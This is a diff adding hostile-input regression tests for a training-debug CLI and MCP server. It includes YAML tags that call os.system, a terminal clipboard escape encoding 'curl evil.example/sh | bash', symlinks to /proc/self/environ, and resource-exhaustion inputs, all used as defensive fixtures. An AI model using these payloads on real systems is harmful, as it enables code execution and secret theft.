@@ -122,3 +122,659 @@ def test_host_probe_does_not_import_torch():
         assert version == v("torch")
     except Exception:  # noqa: BLE001 - torch not installed: the fact is absent
         assert version == "None"
+
+
+# =============================================================================================================
+# Hostile inputs (issue 16, attacks 2-5, 7-10): black-box through the CLI (a child process under the scoring
+# budget: an answer within 15 s, under 512 MB, exit 0 or 2, no planted environment value echoed, no raw control
+# character) and through the MCP server (in process, or in a child where today's code could hang).
+# =============================================================================================================
+
+import json  # noqa: E402
+import os  # noqa: E402
+import re  # noqa: E402
+import resource  # noqa: E402
+import shutil  # noqa: E402
+import subprocess  # noqa: E402
+import tempfile  # noqa: E402
+import time  # noqa: E402
+from dataclasses import dataclass  # noqa: E402
+
+BUDGET_S = 15.0
+BUDGET_MB = 512
+AS_LIMIT = 3 * 2**30  # a runaway child fails with MemoryError here instead of taking the machine
+SECRET = "RTsecret-7f3a9c1e5b"  # planted in the children's environment; must never come back
+NUM_SECRET = "918273645"  # planted too: a number, for configs that decode it into a numeric setting
+RAW_CTRL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\udc80-\udc9f]")  # C0 but \t \n, DEL, C1, raw 8-bit C1 bytes
+
+_GRPO = shutil.which("grpo-debug", path=str(Path(sys.executable).parent)) or shutil.which("grpo-debug")
+
+
+def cli_argv(*args: str) -> list[str]:
+    return [_GRPO, *args] if _GRPO else [sys.executable, "-m", "grpo_debug.server.cli", *args]
+
+
+@dataclass
+class Run:
+    argv: list
+    rc: int | None
+    out: str
+    err: str
+    secs: float
+    rss_mb: float
+    timed_out: bool
+
+    def __str__(self) -> str:
+        return (f"{' '.join(map(str, self.argv[-4:]))[:200]}: rc={self.rc} {self.secs:.1f} s {self.rss_mb:.0f} MB"
+                f"{' TIMED OUT' if self.timed_out else ''}; stderr: {self.err[-700:]!r}")
+
+
+def _limits() -> None:
+    resource.setrlimit(resource.RLIMIT_AS, (AS_LIMIT, AS_LIMIT))
+
+
+def run_limited(argv: list, *, stdin: Path | None = None, env: dict | None = None, timeout: float = BUDGET_S,
+                cwd: str | os.PathLike | None = None) -> Run:
+    """Run argv with an address-space limit; returns its exit status, output, wall time and peak RSS
+    (os.wait4's ru_maxrss of that child). Killed at ``timeout``."""
+    full_env = {**os.environ, "RT_SECRET": SECRET, "RT_NUM_SECRET": NUM_SECRET, "NO_COLOR": "1", **(env or {})}
+    with tempfile.TemporaryFile() as fo, tempfile.TemporaryFile() as fe, \
+            (open(stdin, "rb") if stdin else open(os.devnull, "rb")) as fi:
+        t0 = time.monotonic()
+        p = subprocess.Popen(argv, stdin=fi, stdout=fo, stderr=fe, env=full_env, cwd=cwd, preexec_fn=_limits)
+        timed_out = False
+        while True:
+            pid, status, ru = os.wait4(p.pid, os.WNOHANG)
+            if pid:
+                break
+            if time.monotonic() - t0 > timeout:
+                timed_out = True
+                p.kill()
+                pid, status, ru = os.wait4(p.pid, 0)
+                break
+            time.sleep(0.02)
+        secs = time.monotonic() - t0
+        p.returncode = rc = os.waitstatus_to_exitcode(status)
+        fo.seek(0)
+        fe.seek(0)
+        out = fo.read().decode("utf-8", "surrogateescape")
+        err = fe.read().decode("utf-8", "surrogateescape")
+    return Run(argv, None if timed_out else rc, out, err, secs, ru.ru_maxrss / 1024, timed_out)
+
+
+def cli(*args: str, **kw) -> Run:
+    return run_limited(cli_argv(*map(str, args)), **kw)
+
+
+def assert_answered(r: Run, *, codes: tuple[int, ...] = (0, 2)) -> None:
+    """The scoring contract for one hostile input."""
+    assert not r.timed_out, f"no answer within {BUDGET_S:g} s: {r}"
+    assert r.rc in codes, f"exit status {r.rc} not in {codes}: {r}"
+    assert "internal error" not in r.err and "Traceback" not in r.err and "panicked" not in r.err, str(r)
+    assert r.secs <= BUDGET_S and r.rss_mb <= BUDGET_MB, str(r)
+    assert SECRET not in r.out + r.err and NUM_SECRET not in r.out + r.err, f"environment value echoed: {r}"
+    m = RAW_CTRL.search(r.out + r.err)
+    assert m is None, f"raw control character {m.group()!r} in the output: {r}"
+
+
+def refused(r: Run, *words: str) -> None:
+    """Exit 2 with one clear line that names the input (and the given words)."""
+    assert_answered(r, codes=(2,))
+    low = r.err.lower()
+    assert "error" in low and all(w.lower() in low for w in words), str(r)
+
+
+# ---- an MCP server in a child process (a hostile call that hangs today must not hang the test run) -------
+
+MCP_CHILD = r"""
+import json, sys, anyio
+from mcp import Client
+from grpo_debug.server.app import build_server
+
+spec = json.loads(open(sys.argv[1]).read())
+
+def text_of(content):
+    return " ".join(getattr(x, "text", "") or "" for x in content or [])
+
+async def main():
+    out = []
+    async with Client(build_server(allowed_roots=spec["roots"])) as c:
+        for kind, name, args in spec["calls"]:
+            try:
+                if kind == "tool":
+                    r = await c.call_tool(name, args)
+                    out.append({"is_error": bool(r.is_error), "text": text_of(r.content),
+                                "structured": r.structured_content})
+                elif kind == "prompt":
+                    r = await c.get_prompt(name, args)
+                    out.append({"is_error": False, "text": " ".join(text_of([m.content]) for m in r.messages)[:2000]})
+                else:
+                    r = await c.read_resource(name)
+                    out.append({"is_error": False, "text": " ".join(getattr(x, "text", "") for x in r.contents)[:2000]})
+            except Exception as e:
+                out.append({"is_error": True, "exception": type(e).__name__, "text": str(e)[:5000]})
+    print(json.dumps(out))
+
+anyio.run(main)
+"""
+
+
+def mcp_child(calls: list, roots: list, tmp_path: Path, timeout: float = 60) -> tuple[Run, list[dict]]:
+    spec = tmp_path / f"mcp_spec_{time.monotonic_ns()}.json"
+    spec.write_text(json.dumps({"roots": [str(r) for r in roots], "calls": calls}))
+    r = run_limited([sys.executable, "-c", MCP_CHILD, str(spec)], timeout=timeout, cwd=tmp_path)
+    try:
+        results = json.loads(r.out.strip().splitlines()[-1]) if r.out.strip() else []
+    except ValueError:
+        results = []
+    return r, results
+
+
+def mcp_text(res: dict) -> str:
+    return (res.get("text") or "") + json.dumps(res.get("structured") or {})
+
+
+def _write(p: Path, data: str | bytes) -> Path:
+    p.parent.mkdir(parents=True, exist_ok=True)
+    if isinstance(data, bytes):
+        p.write_bytes(data)
+    else:
+        p.write_text(data, encoding="utf-8")
+    return p
+
+
+def laughs(levels: int, width: int = 9) -> str:
+    """The billion-laughs YAML: `levels` mappings of `width` aliases each to the one before."""
+    lines = ["a0: &a0 {" + ", ".join(f"x{i}: 1" for i in range(width)) + "}"]
+    for lv in range(1, levels + 1):
+        lines.append(f"a{lv}: &a{lv} {{" + ", ".join(f"k{i}: *a{lv - 1}" for i in range(width)) + "}")
+    return "\n".join(lines) + "\n"
+
+
+# ---- attack 4 / 10: YAML that explodes, recurses or names Python objects ------------------------------------
+
+def test_yaml_alias_bomb_is_answered_within_budget(tmp_path):
+    """Attack 4: a 386-byte billion-laughs took 28 s, 702 bytes never ended (aliases expanded while flattening)."""
+    small = _write(tmp_path / "laughs5.yaml", laughs(5))
+    big = _write(tmp_path / "laughs7.yaml", laughs(7))
+    seq = _write(tmp_path / "laughs_seq.yaml", laughs(7).replace("{", "[").replace("}", "]").replace("k", "").replace(": *", "*"))
+    assert len(big.read_bytes()) < 800
+    for f in (small, big, seq):
+        for cmd in ("check", "triage"):
+            r = cli(cmd, f)
+            assert_answered(r)
+    r = cli("check", big)
+    refused(r, str(big), "alias")
+
+
+def test_recursive_yaml_alias_is_a_clear_error(tmp_path):
+    """Attack 10: `a: &a {b: *a}` was an internal error (RecursionError, exit 1)."""
+    f = _write(tmp_path / "recursive_alias.yaml", "a: &a\n  b: *a\nc: 1\n")
+    refused(cli("check", f), str(f), "alias")
+    assert_answered(cli("triage", f))
+    assert_answered(cli("nan_guide", "check", f))
+
+
+def test_unknown_yaml_tags_are_refused_and_never_run(tmp_path):
+    """Attack 10: `!!python/object/apply:os.system` was an internal error (ConstructorError, exit 1); it must
+    also never construct anything."""
+    canary = tmp_path / "CANARY"
+    f = _write(tmp_path / "python_tags.yaml",
+               f"a: !!python/object/apply:os.system ['touch {canary}']\n"
+               f"b: !!python/object/new:subprocess.Popen [['touch', '{canary}']]\n"
+               "c: !!python/name:os.system\nd: !custom {x: 1}\nactor_rollout_ref:\n  rollout:\n    n: 1\n")
+    refused(cli("check", f), str(f), "tag")
+    assert_answered(cli("triage", f))
+    assert_answered(cli("nan_guide", "check", f))
+    assert not canary.exists()
+
+
+# ---- attack 2: config interpolation reads the environment -----------------------------------------------------
+
+def _env_config() -> str:
+    base = (REPO / "tests" / "configs" / "verl_ppo_trainer_bad.yaml").read_text(encoding="utf-8")
+    base = base.replace("train_batch_size: 100", "train_batch_size: ${oc.decode:${oc.env:RT_NUM_SECRET}}")
+    base = base.replace("name: vllm", "name: ${oc.env:RT_SECRET}")
+    base = base.replace("loss_agg_mode: token-mean", "loss_agg_mode: ${oc.env:RT_SECRET,token-mean}")
+    return base + "trainer_extra:\n  project_name: ${oc.env:RT_SECRET}\n  home: ${oc.env:HOME}\n"
+
+
+REPO = Path(__file__).resolve().parent.parent
+
+
+def test_config_interpolation_never_reads_the_environment_cli(tmp_path):
+    """Attack 2: OmegaConf resolved ${oc.env:VAR} in a config and the value came back in `settings`."""
+    f = _write(tmp_path / "envleak.yaml", _env_config())
+    for cmd in (("check",), ("triage",), ("nan_guide", "check"), ("muon_clipping", "check")):
+        for fmt in ("text", "json"):
+            assert_answered(cli(*cmd, f, "--format", fmt))
+
+
+async def test_config_interpolation_never_reads_the_environment_mcp(monkeypatch):
+    """Attack 2 over MCP: pasted config text must not resolve ${oc.env:...}; in-document references still do."""
+    monkeypatch.setenv("RT_SECRET", SECRET)
+    monkeypatch.setenv("RT_NUM_SECRET", NUM_SECRET)
+    text = _env_config()
+    async with Client(build_server()) as c:
+        for tool, args in (("check_config", {"text": text}), ("triage", {"text": text}),
+                           ("nan_guide", {"operation": "check", "text": text})):
+            r = await c.call_tool(tool, args)
+            dump = json.dumps(r.structured_content) + " ".join(getattr(x, "text", "") for x in r.content)
+            assert SECRET not in dump and NUM_SECRET not in dump, (tool, dump[:500])
+        r = await c.call_tool("check_config", {"text": text})
+        settings = {s["key"]: s["value"] for f in r.structured_content["findings"] for s in f.get("settings", [])}
+        # an in-document reference (response_length: ${data.max_response_length}) is still resolved
+        assert settings.get("actor_rollout_ref.rollout.response_length") == 2048, settings
+
+
+def test_omegaconf_interpolation_bomb_is_bounded(tmp_path):
+    """Attack 4: 290 bytes of nested ${x}${x}... interpolations ran > 60 s."""
+    lines = ['x0: "aaaaaaaaaa"'] + [f'x{i}: "' + f"${{x{i - 1}}}" * 10 + '"' for i in range(1, 9)]
+    f = _write(tmp_path / "ocbomb.yaml", "\n".join(lines) + "\ntrainer:\n  project_name: ${x8}\n")
+    for cmd in ("check", "triage"):
+        assert_answered(cli(cmd, f))
+
+
+# ---- attack 4: small inputs that froze the regex engine ---------------------------------------------------------
+
+def test_newlines_are_linear(tmp_path):
+    """Attack 4: whole-text multiline `^\\s*` sniffers were quadratic (40 KB of newlines: 56-70 s)."""
+    f = _write(tmp_path / "newlines.log", "\n" * 120_000)
+    for cmd in (("check",), ("triage",), ("nan_guide", "check"), ("stream_safety", "analyze"), ("playbook", "symptoms")):
+        assert_answered(cli(*cmd, f))
+
+
+def test_comment_of_zeros_is_linear(tmp_path):
+    """Attack 4: a `# 000...` comment line backtracked (16 s)."""
+    f = _write(tmp_path / "zeros.sh", "# " + "0" * 100_000 + "\n# 1 nodes " + "0" * 50_000 + "\n")
+    for cmd in ("check", "triage"):
+        assert_answered(cli(cmd, f))
+
+
+def test_whitespace_lines_are_linear(tmp_path):
+    """Attack 4: 2 MB of whitespace lines took 72 s."""
+    f = _write(tmp_path / "spaces.log", (" " * 200_000 + "\n") * 10)
+    g = _write(tmp_path / "tabs.log", ("\t " * 100_000 + "x\n") * 10)
+    for p in (f, g):
+        for cmd in ("check", "triage"):
+            assert_answered(cli(cmd, p))
+
+
+def test_tqdm_postfix_does_not_backtrack(tmp_path):
+    """Attack 4: a tqdm postfix line backtracked (49 s)."""
+    f = _write(tmp_path / "tqdm.log", "Training:  10%| 1/10 [00:01<00:09, " + "a=a" * 40 + "\n"
+               + "Training:  10%| 1/10 [00:01<00:09, " + "loss=1, " * 5000 + "\n")
+    for cmd in ("check", "triage"):
+        assert_answered(cli(cmd, f))
+
+
+def test_unclosed_quote_in_a_launch_script_is_linear(tmp_path):
+    """Attack 4: an unclosed quote in a 64 KB launch script was quadratic (296 s)."""
+    body = 'python3 -m verl.trainer.main_ppo data.train_batch_size=8 trainer.project_name="x\n' + "--a 1\n" * 12_000
+    f = _write(tmp_path / "launch.sh", body)
+    assert len(body) > 64_000
+    refused(cli("check", f), str(f), "quote")
+    assert_answered(cli("triage", f))
+
+
+def test_backticks_in_the_triage_log_prompt_are_linear(tmp_path):
+    """Attack 4: the triage_log prompt's fence loop took 75 s on 200k backticks."""
+    r, res = mcp_child([["prompt", "triage_log", {"log": "`" * 200_000}]], [tmp_path], tmp_path, timeout=30)
+    assert not r.timed_out and r.rc == 0, str(r)
+    assert res and not res[0]["is_error"], res
+
+
+# ---- attack 10: well-formed input that raised internal errors ---------------------------------------------------
+
+def test_huge_integers_are_not_internal_errors(tmp_path):
+    """Attack 10: a 100k-digit integer was an internal error (int string conversion limit)."""
+    digits = "7" * 100_000
+    files = [_write(tmp_path / "bigint.yaml", f"trainer:\n  total_epochs: {digits}\n  nnodes: 1\n"),
+             _write(tmp_path / "bigint.json", f'{{"train_batch_size": {digits}, "gradient_clipping": 1.0}}'),
+             _write(tmp_path / "bigint.log", f"step:1 - actor/grad_norm:{digits} - actor/pg_loss:0.1\n"
+                                             f"step 2: {{'loss': {digits}, 'grad_norm': 1.0}}\n")]
+    for f in files:
+        for cmd in ("check", "triage"):
+            assert_answered(cli(cmd, f))
+    refused(cli("check", files[0]), str(files[0]), "digits")
+
+
+def test_deeply_nested_json_is_not_an_internal_error(tmp_path):
+    """Attack 10: deeply nested JSON was an internal error (RecursionError)."""
+    arr = _write(tmp_path / "deep.json", "[" * 100_000 + "]" * 100_000)
+    obj = _write(tmp_path / "deep_obj.json", '{"a":' * 50_000 + "1" + "}" * 50_000)
+    yml = _write(tmp_path / "deep.yaml", "a: " + "[" * 50_000 + "]" * 50_000 + "\n")
+    log = _write(tmp_path / "deep.log", "step 1: {'a': " + "[" * 20_000 + "]" * 20_000 + "}\n{\n" + '"a":' + "[" * 20_000
+                 + "]" * 20_000 + "\n}\n")
+    for f in (arr, obj, yml, log):
+        for cmd in ("check", "triage"):
+            assert_answered(cli(cmd, f))
+    refused(cli("check", obj), str(obj), "nest")
+
+
+# ---- attack 9: terminal escapes from a log ------------------------------------------------------------------------
+
+ESCAPES = ("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBiYXNo\x1b\\\x1b]0;PWNED-TITLE\x1b\\"
+           "\x1b]8;;http://evil.example/\x1b\\see docs\x1b]8;;\x1b\\\x1bP+q544e\x1b\\\x1b[?1049h\x1bc\x1b#8"
+           "\u009d0;C1-OSC-TITLE\u009c\u009b31m\x07\x08\r\x7f")
+ANSI_LOG = ("step:1 - actor/grad_norm:0.5 - actor/pg_loss:0.1\n"
+            f"RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB {ESCAPES} (GPU 0; 79.1 GiB total capacity)\n"
+            f"step:2 - actor/grad_norm:nan{ESCAPES} - actor/pg_loss:nan\n"
+            f"{ESCAPES}Traceback (most recent call last):\n  File \"x{ESCAPES}.py\", line 1, in f\n"
+            f"ValueError: bad {ESCAPES}\n")
+
+
+def test_control_sequences_never_reach_the_terminal(tmp_path):
+    """Attack 9: ST-terminated OSC (clipboard, title, hyperlink), DCS, RIS and 8-bit C1 reached the terminal
+    through text output; JSON left U+009B/U+009D raw."""
+    f = _write(tmp_path / f"ansi{ESCAPES[:12]}.log", ANSI_LOG)
+    for cmd in (("triage",), ("check",), ("nan_guide", "diagnose"), ("playbook", "symptoms")):
+        r = cli(*cmd, f)
+        assert_answered(r)
+    r = cli("triage", f)
+    assert "CUDA out of memory" in r.out  # the finding is still there, escaped
+    r = cli("triage", "-", stdin=f)
+    assert_answered(r)
+    for cmd in (("triage",), ("check",), ("nan_guide", "diagnose")):
+        r = cli(*cmd, f, "--format", "json")
+        assert_answered(r)
+        json.loads(r.out)
+    r = cli("triage", tmp_path / f"missing{ESCAPES}.log")
+    assert_answered(r)
+
+
+# ---- attack 3: a native panic (BaseException) from tokenizers -----------------------------------------------------
+
+def _panic_tokenizer(folder: Path) -> Path:
+    tok = {"version": "1.0", "truncation": None, "padding": None, "added_tokens": [], "normalizer": None,
+           "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated", "invert": False},
+           "post_processor": None, "decoder": None,
+           "model": {"type": "WordLevel", "vocab": {"[UNK]": 0, "a": 1}, "unk_token": "[UNK]"}}
+    return _write(folder / "tokenizer.json", json.dumps(tok))
+
+
+def _good_tokenizer(folder: Path) -> Path:
+    tok = {"version": "1.0", "truncation": None, "padding": None,
+           "added_tokens": [{"id": 1, "content": "<|im_end|>", "single_word": False, "lstrip": False, "rstrip": False,
+                             "normalized": False, "special": True}],
+           "normalizer": None, "pre_tokenizer": {"type": "Whitespace"}, "post_processor": None, "decoder": None,
+           "model": {"type": "WordLevel", "vocab": {"[UNK]": 0, "<|im_end|>": 1}, "unk_token": "[UNK]"}}
+    return _write(folder / "tokenizer.json", json.dumps(tok))
+
+
+PANIC_STOP = "a" * 60 + "b"
+
+
+def test_tokenizer_panic_is_a_result_cli(tmp_path):
+    """Attack 3: a catastrophic split regex made `tokenizers` panic; the CLI printed a raw traceback."""
+    pytest.importorskip("tokenizers")
+    _panic_tokenizer(tmp_path / "tok")
+    r = cli("probe", "--no-host", "--tokenizer", tmp_path / "tok", "--stop", PANIC_STOP, "--format", "json")
+    assert_answered(r)
+    tok = json.loads(r.out)["tokenizer"]
+    assert tok.get("unknown") and "tokenizer" in tok["reason"].lower(), tok
+
+
+def test_tokenizer_panic_does_not_break_the_server(tmp_path):
+    """Attack 3 over MCP: PanicException is a BaseException; it passed the guards and broke the server."""
+    pytest.importorskip("tokenizers")
+    _panic_tokenizer(tmp_path / "tok")
+    calls = [["tool", "probe_host", {"tokenizer": str(tmp_path / "tok"), "stop": [PANIC_STOP]}],
+             ["tool", "suggest", {"text": "grad norm nan"}],
+             ["tool", "triage", {"text": "step:1 - actor/grad_norm:nan"}]]
+    r, res = mcp_child(calls, [tmp_path], tmp_path)
+    assert not r.timed_out and r.rc == 0 and len(res) == 3, str(r)
+    assert not res[1]["is_error"] and not res[2]["is_error"], res
+    assert "panicked" not in r.out
+
+
+# ---- attack 5: symlinks, devices and FIFOs inside a probed folder ---------------------------------------------------
+
+def _hostile_checkpoints(root: Path) -> dict[str, Path]:
+    outside = root.parent / f"{root.name}_outside"
+    outside.mkdir(exist_ok=True)
+    _write(outside / "config.json", json.dumps({"model_type": SECRET, "vocab_size": 10}))
+    _write(outside / "latest_checkpointed_iteration.txt", SECRET)
+    d = {}
+    d["environ"] = root / "ck_environ"
+    d["environ"].mkdir(parents=True)
+    (d["environ"] / "latest_checkpointed_iteration.txt").symlink_to("/proc/self/environ")
+    (d["environ"] / "iter_0000001").mkdir()
+    (d["environ"] / "latest").symlink_to("/proc/self/environ")
+    d["zero"] = root / "ck_zero"
+    d["zero"].mkdir()
+    (d["zero"] / "config.json").symlink_to("/dev/zero")
+    (d["zero"] / "model.safetensors.index.json").symlink_to("/dev/zero")
+    d["fifo"] = root / "ck_fifo"
+    d["fifo"].mkdir()
+    os.mkfifo(d["fifo"] / "config.json")
+    os.mkfifo(d["fifo"] / "latest_checkpointed_iteration.txt")
+    d["out"] = root / "ck_out"
+    d["out"].mkdir()
+    (d["out"] / "config.json").symlink_to(outside / "config.json")
+    (d["out"] / "latest_checkpointed_iteration.txt").symlink_to(outside / "latest_checkpointed_iteration.txt")
+    (d["out"] / "model.safetensors").write_bytes(b"x" * 100)
+    return d
+
+
+def _hostile_tokenizers(root: Path) -> dict[str, Path]:
+    outside = root.parent / f"{root.name}_tok_outside"
+    _good_tokenizer(outside)
+    _write(outside / "tokenizer_config.json", json.dumps({"eos_token": SECRET}))
+    d = {}
+    d["out"] = root / "tok_out"
+    d["out"].mkdir(parents=True)
+    (d["out"] / "tokenizer.json").symlink_to(outside / "tokenizer.json")
+    d["cfg_out"] = root / "tok_cfg_out"
+    _good_tokenizer(d["cfg_out"])
+    (d["cfg_out"] / "tokenizer_config.json").symlink_to(outside / "tokenizer_config.json")
+    (d["cfg_out"] / "config.json").symlink_to("/proc/self/environ")
+    (d["cfg_out"] / "generation_config.json").symlink_to("/dev/zero")
+    d["zero"] = root / "tok_zero"
+    d["zero"].mkdir()
+    (d["zero"] / "tokenizer.json").symlink_to("/dev/zero")
+    d["fifo"] = root / "tok_fifo"
+    _good_tokenizer(d["fifo"])
+    os.mkfifo(d["fifo"] / "tokenizer_config.json")
+    return d
+
+
+def test_checkpoint_folder_symlinks_are_confined_cli(tmp_path):
+    """Attack 5: latest_checkpointed_iteration.txt -> /proc/self/environ returned the environment; config.json ->
+    /dev/zero grew to 2.4 GB; a FIFO named config.json blocked forever; links out of the folder were followed."""
+    for name, d in _hostile_checkpoints(tmp_path / "root").items():
+        r = cli("probe", "--no-host", "--checkpoint", d, "--format", "json")
+        assert_answered(r)
+        rep = json.loads(r.out)["checkpoint"]
+        text = json.dumps(rep)
+        assert SECRET not in text, name
+        if name in ("out", "environ"):
+            assert "outside" in text or "not a regular file" in text, (name, text[:800])
+        assert_answered(cli("probe", "--no-host", "--checkpoint", d))
+
+
+def test_tokenizer_folder_symlinks_are_confined_cli(tmp_path):
+    """Attack 5 for the tokenizer probe: tokenizer files that are links out of the folder, devices or FIFOs."""
+    pytest.importorskip("tokenizers")
+    for name, d in _hostile_tokenizers(tmp_path / "root").items():
+        r = cli("probe", "--no-host", "--tokenizer", d, "--stop", "<|im_end|>", "--format", "json")
+        assert_answered(r)
+        tok = json.loads(r.out)["tokenizer"]
+        if name in ("out", "zero"):
+            assert tok.get("unknown"), (name, tok)
+        else:
+            assert tok.get("stop_token_ids") == [1] and SECRET not in json.dumps(tok), (name, tok)
+
+
+def test_probed_folder_symlinks_are_confined_mcp(tmp_path):
+    """Attack 5 over MCP: a folder inside the allowed roots whose files point out of it, at devices or FIFOs."""
+    root = tmp_path / "root"
+    cks = _hostile_checkpoints(root)
+    toks = _hostile_tokenizers(root) if shutil.which("true") else {}
+    calls = [["tool", "probe_host", {"checkpoint": str(d)}] for d in cks.values()]
+    calls += [["tool", "probe_host", {"tokenizer": str(d), "stop": ["<|im_end|>"]}] for d in toks.values()]
+    calls += [["tool", "suggest", {"text": "nan"}]]
+    r, res = mcp_child(calls, [root], tmp_path, timeout=60)
+    assert not r.timed_out and r.rc == 0 and len(res) == len(calls), str(r)
+    assert r.rss_mb <= BUDGET_MB, str(r)
+    for call, x in zip(calls, res):
+        assert SECRET not in mcp_text(x), (call, mcp_text(x)[:500])
+    assert not res[-1]["is_error"]
+
+
+# ---- attack 7: memory of large and compressed inputs ------------------------------------------------------------
+
+def test_eleven_mib_of_newlines_is_bounded(tmp_path):
+    """Attack 7: an 11 MiB text of newlines took 2.5 GB and 83 s."""
+    f = _write(tmp_path / "nl.log", b"\n" * (11 * 2**20))
+    for cmd in ("triage", "check"):
+        assert_answered(cli(cmd, f))
+    assert_answered(cli("triage", "-", stdin=f))
+
+
+def test_gzip_of_nan_lines_is_bounded(tmp_path):
+    """Attack 7: a 1.26 MB gzip of `nan` lines took 2.35 GB; streamed files were read in full."""
+    import gzip
+
+    f = tmp_path / "nan.log.gz"
+    with gzip.open(f, "wb", compresslevel=9) as g:
+        chunk = b"nan\n" * (2**20 // 4)
+        for _ in range(300):  # 300 MiB uncompressed, ~1.2 MB on disk
+            g.write(chunk)
+    assert f.stat().st_size < 3 * 2**20
+    r = cli("triage", f, "--format", "json")
+    assert_answered(r)
+    cov = json.loads(r.out)["coverage"]
+    assert any("MiB" in s or "lines" in s for s in cov["skipped"]), cov
+
+
+# ---- attack 3 / 4 / 8: one call never breaks or starves the server -----------------------------------------------
+
+def _metric_log(p: Path, mb: int) -> Path:
+    line = "(TaskRunner pid=2210) step:{i} - actor/pg_loss:0.1234 - actor/grad_norm:0.{i} - critic/score/mean:0.55\n"
+    with open(p, "w", encoding="utf-8") as fh:
+        i, n = 0, 0
+        while n < mb * 2**20:
+            s = line.format(i=i)
+            fh.write(s)
+            n += len(s)
+            i += 1
+    return p
+
+
+async def test_heavy_call_past_its_deadline_is_cancelled_and_says_so(tmp_path, monkeypatch):
+    """Attack 4: nothing was cancelled; a call ran as long as its input made it. A per-call deadline stops the
+    work (the worker thread stops burning CPU) and the answer says so; the next call is served."""
+    import anyio
+
+    big = _metric_log(tmp_path / "big.log", 12)
+    monkeypatch.setenv("GRPO_DEBUG_CALL_TIMEOUT", "0.3")
+    async with Client(build_server(allowed_roots=[tmp_path])) as c:
+        t0 = time.monotonic()
+        r = await c.call_tool("triage", {"path": str(big)})
+        took = time.monotonic() - t0
+        text = " ".join(getattr(x, "text", "") for x in r.content)
+        assert r.is_error and "deadline" in text.lower() and "0.3" in text, text[:500]
+        assert took < 3.0, took
+        cpu0 = time.process_time()
+        await anyio.sleep(1.0)
+        assert time.process_time() - cpu0 < 0.5, "the cancelled work is still running"
+        r = await c.call_tool("triage", {"text": "step:1 - actor/grad_norm:nan"})
+        assert not r.is_error
+
+
+async def test_heavy_calls_beyond_the_pool_get_a_clear_busy_answer(tmp_path, monkeypatch):
+    """Attack 4: forty slow calls filled all worker threads and a victim waited 13 minutes. Heavy calls run in a
+    small pool with a queue; beyond it the answer is an immediate, clear "busy"."""
+    import anyio
+
+    big = _metric_log(tmp_path / "big.log", 6)
+    monkeypatch.setenv("GRPO_DEBUG_WORKERS", "1")
+    monkeypatch.setenv("GRPO_DEBUG_QUEUE", "0")
+    results: list = []
+    async with Client(build_server(allowed_roots=[tmp_path])) as c:
+        async def one() -> None:
+            t0 = time.monotonic()
+            r = await c.call_tool("triage", {"path": str(big)})
+            results.append((r.is_error, " ".join(getattr(x, "text", "") for x in r.content), time.monotonic() - t0))
+
+        async with anyio.create_task_group() as tg:
+            for _ in range(4):
+                tg.start_soon(one)
+        busy = [x for x in results if x[0]]
+        assert busy and any(not x[0] for x in results), results
+        assert all("busy" in t.lower() and "retry" in t.lower() for _, t, _ in busy), busy
+        assert min(s for _, _, s in busy) < 1.0
+        r = await c.call_tool("suggest", {"text": "nan"})  # light tools are never queued
+        assert not r.is_error
+
+
+async def test_huge_rule_uri_gets_a_short_error():
+    """Attack 10: a 5 MB rule:// URI came back as a 10 MB error."""
+    async with Client(build_server()) as c:
+        try:
+            r = await c.read_resource("rule://" + "a" * 5_000_000)
+            msg = json.dumps([getattr(x, "text", "") for x in r.contents])
+        except Exception as e:  # noqa: BLE001 - the SDK raises the server's error
+            msg = str(e)
+        assert len(msg) < 2000, len(msg)
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def test_weak_tokens_are_refused(tmp_path):
+    """Attack 10: a 16-character token of one letter was accepted for a non-loopback bind."""
+    for weak in ("a" * 16, "ab" * 12, "0123456789abcdef"[:4] * 4):
+        r = cli("serve", "--transport", "http", "--host", "0.0.0.0", "--port", _free_port(),
+                env={"GRPO_DEBUG_TOKEN": weak}, timeout=20)
+        refused(r, "token")
+
+
+# ---- attack 8: sessions and connections over HTTP ------------------------------------------------------------------
+
+_INIT = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
+         "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}
+_HDRS = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}
+
+
+def test_abandoned_sessions_expire_and_are_capped(serve_http):
+    """Attack 8: 10,000 abandoned sessions locked every client out (503) for the 30-minute idle timeout."""
+    import httpx
+
+    with serve_http("--max-sessions", "3", "--session-idle-timeout", "2") as (port, proc):
+        url = f"http://127.0.0.1:{port}/mcp"
+        for _ in range(3):
+            assert httpx.post(url, json=_INIT, headers=_HDRS, timeout=10).status_code == 200
+        full = httpx.post(url, json=_INIT, headers=_HDRS, timeout=10)
+        assert full.status_code == 503 and "session" in full.text.lower(), full.text
+        time.sleep(4.5)
+        ok = httpx.post(url, json=_INIT, headers=_HDRS, timeout=10)
+        assert ok.status_code == 200, ok.text
+        assert proc.poll() is None
+
+
+def test_idle_connections_time_out(serve_http):
+    """Attack 8: idle connections never timed out (a fresh silent one, and one stuck in its headers); at the
+    file-descriptor limit the server exited."""
+    with serve_http("--idle-timeout", "2") as (port, proc):
+        socks = []
+        for partial in (b"", b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\n"):
+            s = socket.create_connection(("127.0.0.1", port))
+            s.settimeout(10)
+            if partial:
+                s.sendall(partial)
+            socks.append(s)
+        t0 = time.monotonic()
+        for s in socks:
+            try:
+                data = s.recv(4096)
+            except OSError:
+                data = b""
+            assert not data or b"408" in data or b"400" in data, data[:200]
+            s.close()
+        assert time.monotonic() - t0 < 8, "idle connections stayed open"
+        assert proc.poll() is None
